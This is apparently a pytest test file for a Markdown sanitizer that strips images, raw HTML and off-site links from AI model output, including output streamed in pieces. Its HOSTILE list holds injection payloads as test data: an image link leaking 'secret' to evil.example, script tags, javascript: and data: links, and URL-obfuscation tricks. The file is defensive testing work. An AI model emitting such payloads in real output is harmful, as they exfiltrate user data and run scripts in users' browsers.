"""The Markdown filter every piece of model text passes before the browser: images and raw HTML never
render, links only to the app's pages and to URLs a tool returned, and the streamed text is as safe,
cut anywhere, as the whole."""

import random

import pytest

from agent.safe_markdown import BREAK, LinkPolicy, StreamGuard, own_page, sanitize, urls_in

TOOL_URL = "https://github.com/maya/ferrox"
HOSTILE = [
    "![chart](http://evil.example/leak.png?d=secret)",
    "<img src=http://evil.example/x.png>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "[a [nested] label](http://evil.example/n)",
    "[ref]: http://evil.example/r\n\n![y][ref]",
    "[![img](http://evil.example/i.png)](/api/v1/projects/ferrox)",
    "[slash](//evil.example) [entity](/&#47;evil.example) [backslash](/\\evil.example)",
    "[paren](http://evil.example/a(b)) <http://evil.example/auto>",
    "[spaced]( http://evil.example/s \"title\" )",
    "[escaped](http:\\/\\/evil.example)",
    "see http://evil.example/a and www.evil.example/b",
    "[same site image]![x](/api/v1/search?q=x)",
]


def rendered_outside(text: str) -> list[str]:
    """What a Markdown renderer could still fetch or link outside the app, judged by the same parser."""
    from agent.safe_markdown import _BARE_URL, _TAG_START, _matching_open, parse_destination

    problems = []
    pos = text.find("](")
    while pos >= 0:
        parsed = parse_destination(text, pos + 1)
        opener = _matching_open(text, pos)
        if parsed is not None and opener is not None:
            if opener > 0 and text[opener - 1] == "!":
                problems.append(f"image {parsed[0]}")
            elif not LinkPolicy({TOOL_URL}).allows(parsed[0]):
                problems.append(f"link {parsed[0]}")
        pos = text.find("](", pos + 1)
    problems += [f"tag at {m.start()}" for m in _TAG_START.finditer(text)]
    problems += [f"url {m.group(0)}" for m in _BARE_URL.finditer(text) if not m.group(0).startswith(TOOL_URL)]
    if "]:" in text:
        problems.append("definition")
    return problems


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_is_made_inert(hostile):
    cleaned = sanitize(hostile, LinkPolicy({TOOL_URL}))
    assert rendered_outside(cleaned) == []
    assert "http://evil" not in cleaned and "](javascript:" not in cleaned and "](data:" not in cleaned


def test_allowed_links_stay_links_and_the_rest_become_text():
    policy = LinkPolicy()
    policy.add_tool_output(f"Ferrox: {TOOL_URL}. Glint (/api/v1/projects/glint)")
    text = (f"[Ferrox]({TOOL_URL}) and [Glint](/api/v1/projects/glint), not [this](https://evil.example); "
            "![chart](/api/v1/x.png) and <b>bold</b>")
    assert sanitize(text, policy) == (f"[Ferrox]({TOOL_URL}) and [Glint](/api/v1/projects/glint), not this; "
                                      "chart and &lt;b>bold&lt;/b>")
    assert sanitize(f"More at {TOOL_URL}.", policy) == f"More at {TOOL_URL}."
    assert sanitize("More at https://evil.example/x.", policy) == "More at evil.example/x."


def test_tool_urls_and_own_pages():
    assert urls_in(f"see {TOOL_URL}, and (https://a.example/x).") == {TOOL_URL, "https://a.example/x"}
    assert own_page("/api/v1/projects/ferrox") and own_page("/chat/")
    assert not any(own_page(u) for u in ("//evil.example", "/\\evil.example", "https://x", "javascript:x", "/a b"))


@pytest.mark.parametrize("seed", range(5))
def test_the_stream_cut_anywhere_shows_what_the_whole_text_shows(seed):
    rng = random.Random(seed)
    text = " ".join(HOSTILE) + f" and [Ferrox]({TOOL_URL}) plus [Glint](/api/v1/projects/glint)."
    policy = LinkPolicy({TOOL_URL})
    guard, shown, i = StreamGuard(policy), [], 0
    while i < len(text):
        step = rng.randint(1, 7)
        shown.append(guard.feed(text[i:i + step]))
        i += step
    shown.append(guard.flush())
    assert "".join(shown) == sanitize(text, policy)
    streamed = ""
    for piece in shown:  # what the browser had at every moment was inert too
        streamed += piece
        assert rendered_outside(streamed) == []


def test_an_endless_construct_is_released_with_a_break_no_link_spans():
    guard = StreamGuard(LinkPolicy(), max_hold=50)
    shown = guard.feed("[" + "x" * 60) + guard.feed("](http://evil.example/late)") + guard.flush()
    assert BREAK in shown and rendered_outside(shown) == []
    guard = StreamGuard(LinkPolicy(), max_hold=10)
    shown = guard.feed("see htt") + guard.feed("p://evil.example/" + "a" * 20) + guard.flush()
    assert rendered_outside(shown) == [] and "evil.example/aaa" in shown
